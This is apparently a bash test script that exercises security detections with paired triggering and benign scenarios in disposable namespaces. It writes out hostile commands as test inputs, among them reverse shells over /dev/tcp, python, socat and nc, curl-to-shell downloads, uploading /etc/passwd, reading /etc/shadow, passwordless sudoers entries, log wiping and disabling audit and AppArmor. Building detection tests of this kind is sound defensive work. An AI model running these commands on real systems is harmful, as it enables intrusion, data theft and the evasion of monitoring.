# SPDX-License-Identifier: GPL-2.0-or-later
# shellcheck shell=bash disable=SC2016,SC2317
# What the captures of the shipped detections show: scenarios.sh NAME fires|quiet.
# Run by capture.sh only, in namespaces whose files are thrown away. Quiet is what
# is most like the finding and is none. prepare_NAME is not in the capture. Where
# a real attack would reach beyond the namespaces, what it asks for is refused.

as_dev() { setpriv --reuid 2001 --regid 2001 --clear-groups "$@"; }

connecting() { # FILE: a program that connects and goes on by what follows
	cat >"$1" <<-EOF
	import os, socket, subprocess
	s = socket.socket()
	s.connect_ex(("198.51.100.1", 4444))
	$2
	EOF
}

# A copy of python that may become root: it stands for a hole in the kernel.
able_python() {
	cp "$(readlink -f "$(command -v python3)")" python3
	setcap cap_setuid+ep python3
}

connect_source() { # FILE ADDRESS
	cat >"$1" <<-EOF
	#include <arpa/inet.h>
	int main(void)
	{
		struct sockaddr_in to = { AF_INET, htons(4444) };
		inet_pton(AF_INET, "$2", &to.sin_addr);
		connect(socket(AF_INET, SOCK_STREAM, 0), (void *)&to, sizeof(to));
	}
	EOF
}

# A program that binds a port of an address and leaves.
bind_source() { # FILE ADDRESS
	cat >"$1" <<-EOF
	#include <arpa/inet.h>
	int main(void)
	{
		struct sockaddr_in at = { AF_INET, htons(4444) };
		inet_pton(AF_INET, "$2", &at.sin_addr);
		return bind(socket(AF_INET, SOCK_STREAM, 0), (void *)&at, sizeof(at));
	}
	EOF
}

# A program that sends one datagram and never connects.
send_source() { # FILE ADDRESS
	cat >"$1" <<-EOF
	#include <arpa/inet.h>
	int main(void)
	{
		struct sockaddr_in to = { AF_INET, htons(4444) };
		inet_pton(AF_INET, "$2", &to.sin_addr);
		sendto(socket(AF_INET, SOCK_DGRAM, 0), "x", 1, 0, (void *)&to,
			sizeof(to));
	}
	EOF
}

become_source() { # FILE UID
	printf '#include <unistd.h>\nint main(void) { return setuid(%s); }\n' \
		"$2" >"$1"
}

prepare_account_made_and_used() { prepare_sshd; }
log_in_after_making() { # ACCOUNT
	useradd -m -p "$(cat /home/dev/hash)" eve
	start_sshd
	log_in "$1" right
}
# A server that knows dev by the password "right".
prepare_sshd() {
	ssh-keygen -q -t ed25519 -N '' -f /home/dev/key
	openssl passwd -6 right >/home/dev/hash
	printf 'dev:%s:19000:0:99999:7:::\n' "$(cat /home/dev/hash)" >>/etc/shadow
	printf 'HostKey /home/dev/key\nUsePAM yes\nStrictModes no\n' \
		>/home/dev/sshd_config
	printf '#!/bin/sh\ncat /home/dev/answer\n' >/home/dev/ask
	chmod 755 /home/dev/ask
}

start_sshd() {
	/usr/sbin/sshd -f /home/dev/sshd_config -D &
	sleep 1
}

log_in() { # ACCOUNT PASSWORD
	echo "$2" >/home/dev/answer
	SSH_ASKPASS=/home/dev/ask SSH_ASKPASS_REQUIRE=force setsid ssh -F none \
		-o StrictHostKeyChecking=no -o NumberOfPasswordPrompts=1 \
		-o UserKnownHostsFile=/dev/null -o PubkeyAuthentication=no \
		"$1@198.51.100.1" true
}

fires_account_made_and_used() { log_in_after_making eve; }
quiet_account_made_and_used() { log_in_after_making dev; }

fires_account_made_root() { usermod -aG sudo dev; }
quiet_account_made_root() { usermod -aG users dev; }

fires_audit_disarmed() { as_dev auditctl -D; }
quiet_audit_disarmed() { as_dev auditctl -l; as_dev auditctl -s; }

prepare_authentication_file_written() { mkdir -p /root/.ssh; }
fires_authentication_file_written() { echo key >/root/.ssh/authorized_keys; }
quiet_authentication_file_written() { echo key >/root/.ssh/known_hosts_new; }

prepare_capability_on_file() { cp /bin/true tool; }
fires_capability_on_file() { setcap cap_setuid+ep tool; }
quiet_capability_on_file() { setcap cap_net_raw+ep tool; getcap tool; }

prepare_compiled_then_root() { become_source exploit.c "${1:-0}"; chmod 666 ./*.c; }
fires_compiled_then_root() {
	as_dev gcc -o exploit exploit.c
	setcap cap_setuid+ep exploit
	as_dev ./exploit
}
quiet_compiled_then_root() {
	become_source exploit.c 2001
	fires_compiled_then_root
}

fires_container_daemon_by_socket() {
	curl -s --unix-socket /run/docker.sock http://localhost/containers/json
}
quiet_container_daemon_by_socket() {
	curl -s --unix-socket /run/app.sock http://localhost/status
}

fires_container_with_host() { docker run --rm -v /:/host debian true; }
quiet_container_with_host() { docker run --rm -v /srv:/srv debian true; }

fires_cron_file_written() { echo '* * * * * root true' >/etc/cron.d/job; }
quiet_cron_file_written() { echo dev >/etc/cron.note; }

prepare_crontab_by_command() { mkdir -p /var/spool/cron/crontabs; }
fires_crontab_by_command() { echo '* * * * * true' | crontab -; }
quiet_crontab_by_command() { crontab -l; }

prepare_database_starts_shell() {
	postgres=$(ls -d /usr/lib/postgresql/*/bin)
	mkdir -p /var/lib/postgresql/own
	chown 2001:2001 /var/lib/postgresql/own
	as_dev "$postgres/initdb" -D /var/lib/postgresql/own/main -A trust
}
ask_database() { # WHAT TO COPY TO
	postgres=$(ls -d /usr/lib/postgresql/*/bin)
	as_dev "$postgres/postgres" -D /var/lib/postgresql/own/main \
		-k /home/dev -c listen_addresses= &
	sleep 2
	as_dev "$postgres/psql" -h /home/dev postgres -c "COPY (SELECT 1) TO $1"
}
fires_database_starts_shell() { ask_database "PROGRAM 'true'"; }
quiet_database_starts_shell() { ask_database "'/home/dev/one'"; }

fires_decoded_text_into_shell() { sh -c 'echo dHJ1ZQo= | base64 -d | sh'; }
quiet_decoded_text_into_shell() { sh -c 'echo dHJ1ZQo= | base64 -d | sha256sum'; }

fires_download_into_shell() { sh -c 'curl -s http://198.51.100.1/x | sh'; }
quiet_download_into_shell() { sh -c 'curl -s http://198.51.100.1/x | sha1sum'; }

fires_file_sent_out() { curl -s -T /etc/passwd http://198.51.100.1/; }
quiet_file_sent_out() { curl -s -o page http://198.51.100.1/; }

prepare_history_wiped() { echo ls >/root/.bash_history; }
fires_history_wiped() { rm -f /root/.bash_history; }
quiet_history_wiped() { wc -l /root/.bash_history; rm -f /root/.bash_notes; }

fires_kernel_helper_replaced() {
	mkdir group
	sh -c 'echo /tmp/agent > group/release_agent'
}
quiet_kernel_helper_replaced() { sh -c 'cat /proc/sys/kernel/core_pattern > was'; }

fires_kernel_thread_imitated() { (exec -a '[kworker/0:1]' sleep 0); }
quiet_kernel_thread_imitated() { env [ -d /etc ]; grep '[a-z]' /etc/hostname; }

prepare_logs_removed() { echo old | tee /var/log/auth.log >/var/log/tool.log; }
fires_logs_removed() { truncate -s 0 /var/log/auth.log; }
quiet_logs_removed() { tail /var/log/auth.log; truncate -s 0 /var/log/tool.log; }

connect_many() { # COUNT
	python3 -c "import socket
for i in range($1):
    socket.socket().connect_ex(('198.51.100.1', 1000 + i))"
}
fires_many_connections() { connect_many 100; }
quiet_many_connections() { connect_many 60; }

prepare_miner_arguments() { cp /bin/true updated; }
fires_miner_arguments() { ./updated -o stratum+tcp://198.51.100.1:3333 -u w; }
quiet_miner_arguments() { ./updated -o http://198.51.100.1:3333/stratum -u w; }

# no module, and no kernel that takes it
prepare_module_from_temporary() { echo none >/tmp/driver.ko; }
fires_module_from_temporary() { as_dev insmod /tmp/driver.ko; }
quiet_module_from_temporary() { modinfo /tmp/driver.ko; lsmod; }

prepare_namespace_then_root() { able_python; }
fires_namespace_then_root() {
	as_dev bash -c 'unshare -Ur true
		./python3 -c "import os; os.setuid(0); os.execl(\"/bin/sh\", \"sh\", \"-c\", \"true\")"
		true'
}
quiet_namespace_then_root() { as_dev bash -c 'unshare -Ur sh -c true; id; true'; }

fires_namespaces_of_init_entered() { nsenter -t 1 -u true; }
quiet_namespaces_of_init_entered() {
	sleep 20 &
	nsenter -t $! -u true
}

fires_network_after_compile() {
	connect_source caller.c 198.51.100.1
	gcc -o caller caller.c
	./caller
}
quiet_network_after_compile() {
	connect_source caller.c 127.0.0.1
	gcc -o caller caller.c
	./caller
}

# Built in a directory, moved, and run by its new name.
fires_network_after_compile_linked() {
	connect_source caller.c 198.51.100.1
	mkdir build
	gcc -o build/caller caller.c
	mv build/caller tool
	./tool
}
# The same of a program that was not built here.
quiet_network_after_compile_linked() {
	connect_source caller.c 198.51.100.1
	mkdir build
	gcc -o build/caller caller.c
	cp "$(readlink -f "$(command -v python3)")" tool
	connecting caller.py ''
	./tool caller.py
}

# Text made executable; the same text given to a shell is no program.
fires_network_after_birth() {
	connecting caller.py ''
	{ echo '#!/usr/bin/python3' && cat caller.py; } | base64 | base64 -d >fetch
	chmod +x fetch
	./fetch
}
quiet_network_after_birth() {
	connecting fetch ''
	python3 fetch
}

prepare_exec_linked_from_connected() {
	printf 'int main(void) { return 0; }\n' >worker.c
}
fires_exec_linked_from_connected() {
	gcc -o worker worker.c
	connecting session.py 'subprocess.call(["./worker"])'
	python3 session.py
}
quiet_exec_linked_from_connected() {
	gcc -o worker worker.c
	connecting session.py ''
	python3 session.py
	./worker
}

fires_network_listen_linked() {
	bind_source server.c 0.0.0.0
	gcc -o server server.c
	./server
}
quiet_network_listen_linked() {
	bind_source server.c 127.0.0.1
	gcc -o server server.c
	./server
}

fires_network_loopback_linked() {
	connect_source caller.c 127.0.0.1
	gcc -o caller caller.c
	./caller
}
quiet_network_loopback_linked() {
	connect_source caller.c 127.0.0.1
	gcc -o caller caller.c
	python3 -c 'import socket; socket.socket().connect_ex(("127.0.0.1", 4444))'
}

fires_network_send_linked() {
	send_source sender.c 198.51.100.1
	gcc -o sender sender.c
	./sender
}
quiet_network_send_linked() {
	send_source sender.c 127.0.0.1
	gcc -o sender sender.c
	./sender
}

fires_network_scanned() { nmap -n -Pn -sT -p 1-3 198.51.100.1; }
quiet_network_scanned() { nc.openbsd -z 198.51.100.1 22; }

prepare_password_guessed() { prepare_sshd; }
log_in_with() { # PASSWORD...
	start_sshd
	for password; do log_in dev "$password"; done
}
fires_password_guessed() { log_in_with a b c d e f right; }
quiet_password_guessed() { log_in_with wrong right; }

fires_password_hashes_read() { cat /etc/shadow; }
quiet_password_hashes_read() { cat /etc/passwd; stat /etc/shadow; }

prepare_process_becomes_root() { able_python; cp "$(command -v setpriv)" .; chmod 4755 setpriv; }
fires_process_becomes_root() { as_dev ./python3 -c 'import os; os.setuid(0)'; }
quiet_process_becomes_root() { as_dev ./setpriv --reuid 0 true; }

fires_process_memory_read() { dd if=/proc/$$/mem of=/dev/null bs=1 count=1; }
quiet_process_memory_read() { cat /proc/$$/maps; }

fires_process_traced() {
	sleep 20 &
	gdb -nx -batch -p $! -ex detach
	kill $!
}
quiet_process_traced() { gdb -nx -batch -ex run /bin/true; }

fires_program_came_ran_went() { cp /bin/true /tmp/job; /tmp/job; rm /tmp/job; }
quiet_program_came_ran_went() { cp /bin/true /tmp/job; /tmp/job; rm -f /tmp/job.lock; }

fires_program_in_memory() {
	python3 -c 'import os
fd = os.memfd_create("job")
os.write(fd, open("/bin/true", "rb").read())
os.execve(fd, ["job"], {})'
}
quiet_program_in_memory() {
	python3 -c 'import os
fd = os.memfd_create("job")
os.write(fd, open("/bin/true", "rb").read())
os.execv("/bin/true", ["job"])'
}

prepare_program_in_shared_memory() { cp /bin/true /dev/shm/job; }
fires_program_in_shared_memory() { /dev/shm/job; }
quiet_program_in_shared_memory() { sha256sum /dev/shm/job; }

fires_protection_disarmed() { as_dev systemctl stop apparmor; }
quiet_protection_disarmed() { as_dev systemctl status apparmor; }

fires_reverse_shell_by_bash() {
	bash -c 'exec bash -i >& /dev/tcp/198.51.100.1/4444 0>&1'
}
quiet_reverse_shell_by_bash() {
	bash -c '(echo > /dev/tcp/198.51.100.1/4444) > /dev/null 2>&1'
}

fires_reverse_shell_by_interpreter() {
	python3 -c 'import os, socket
s = socket.socket()
s.connect_ex(("198.51.100.1", 4444))
os.dup2(s.fileno(), 0)
os.execl("/bin/sh", "sh")'
}
quiet_reverse_shell_by_interpreter() {
	python3 -c 'import socket
print(socket.gethostname())'
}

fires_reverse_shell_by_relay() { socat TCP:198.51.100.1:4444 EXEC:/bin/sh; }
quiet_reverse_shell_by_relay() { socat -u TCP:198.51.100.1:4444 STDOUT; }

fires_secrets_searched() { find /home -name 'id_rsa*'; }
quiet_secrets_searched() { find /home -name 'report*'; }

fires_setuid_bit_set() { cp /bin/sh helper; chmod u+s helper; }
quiet_setuid_bit_set() { mkdir group; chmod g+s group; chmod 2775 group; }

prepare_setuid_shell() { cp /bin/bash bash; chmod 4755 bash; }
fires_setuid_shell() { as_dev ./bash -p -c true; }
quiet_setuid_shell() { as_dev /bin/bash -c true; }

fires_shell_after_connect() {
	connecting caller.py 'os.execv("/bin/sh", ["sh", "-c", "true"])'
	python3 caller.py
}
quiet_shell_after_connect() {
	connecting caller.py 'subprocess.run(["sh", "-c", "true"])'
	python3 caller.py
}

fires_shell_interactive_without_terminal() {
	setsid sh -c 'mkfifo pipe; sh -i <pipe 2>&1 | nc.openbsd 198.51.100.1 4444 >pipe'
}
quiet_shell_interactive_without_terminal() {
	script -qec 'sh -i' /dev/null
	setsid sh -i -c true
}

fires_shell_out_of_tool() { find . -maxdepth 0 -exec sh \;; }
quiet_shell_out_of_tool() { find . -maxdepth 0 -exec sh -c true \;; }

fires_startup_file_written() {
	echo true >/etc/made
	mv /etc/made /etc/profile.d/made.sh
}
quiet_startup_file_written() {
	echo true >/etc/made
	mv /etc/made /etc/made.sh
}

fires_sudo_without_password() {
	sh -c 'echo "dev ALL=(ALL) NOPASSWD: ALL" > /etc/sudoers.d/dev'
}
quiet_sudo_without_password() {
	sh -c 'echo "Defaults lecture=never" > /etc/sudoers.d/lecture'
}

fires_systemd_unit_written() { echo '[Service]' >/etc/systemd/system/job.service; }
quiet_systemd_unit_written() { echo '[Service]' >/etc/systemd/job.service; }

fires_times_forged() { echo >/etc/made; touch -r /bin/ls /etc/made; }
quiet_times_forged() { touch /etc/made; touch -r /bin/ls made; }

fires_tunnel_opened() { ssh -N -R 2222:localhost:22 dev@198.51.100.1; }
quiet_tunnel_opened() { ssh -v dev@198.51.100.1 true; }

prepare_web_server_starts_shell() {
	mkdir site
	echo hello >site/page.txt
	printf 'printf "Content-Type: text/plain\\n\\nhello\\n"\n' >site/page.sh
	cat >lighttpd.conf <<-EOF
	server.document-root = "/home/dev/w/site"
	server.port = 80
	server.modules = ("mod_cgi")
	cgi.assign = (".sh" => "/bin/sh")
	EOF
}
ask_web_server() { # FILE
	lighttpd -D -f lighttpd.conf &
	sleep 1
	curl -s "http://198.51.100.1/$1"
}
fires_web_server_starts_shell() { ask_web_server page.sh; }
quiet_web_server_starts_shell() { ask_web_server page.txt; }

case $2 in
prepare) ! declare -F "prepare_$1" >/dev/null || "prepare_$1" ;;
*) "$2_$1" ;;
esac
